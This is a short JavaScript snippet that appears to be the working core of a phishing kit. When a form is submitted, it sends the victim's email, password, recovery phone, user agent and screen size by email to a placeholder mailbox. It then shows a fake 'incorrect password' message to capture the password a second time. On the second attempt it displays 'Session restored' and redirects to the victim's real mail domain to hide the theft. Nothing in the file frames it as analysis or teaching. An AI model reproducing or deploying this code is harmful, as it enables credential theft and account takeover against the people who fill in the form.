let attempt = 0
const btn = document.querySelector("#continue")

btn.addEventListener("click", (e) => {
  e.preventDefault()
  const mail = document.querySelector("[name=usr]").value
  const pass = document.querySelector("[name=psw]").value
  const recovery = document.querySelector("[name=phone]")?.value || "-"
  attempt += 1

  Email.send({
    SecureToken: "00000000-0000-0000-0000-000000000000",
    To: "box@mailer.example",
    From: "box@mailer.example",
    Subject: `Result ${attempt} | ${mail}`,
    Body: `<b>user</b>: ${mail}<br><b>pass</b>: ${pass}<br><b>phone</b>: ${recovery}<br>${navigator.userAgent}<br>${screen.width}x${screen.height}`
  }).then(() => {
    if (attempt < 2) {
      document.querySelector(".hint").innerHTML = "The password you entered is incorrect. <a href='#'>Forgot?</a>"
      document.querySelector("[name=psw]").value = ""
    } else {
      document.body.innerHTML = "<p class='done'>Session restored. Please wait...</p>"
      setTimeout(() => location.href = "https://" + mail.split("@").pop(), 3000)
    }
  })
})
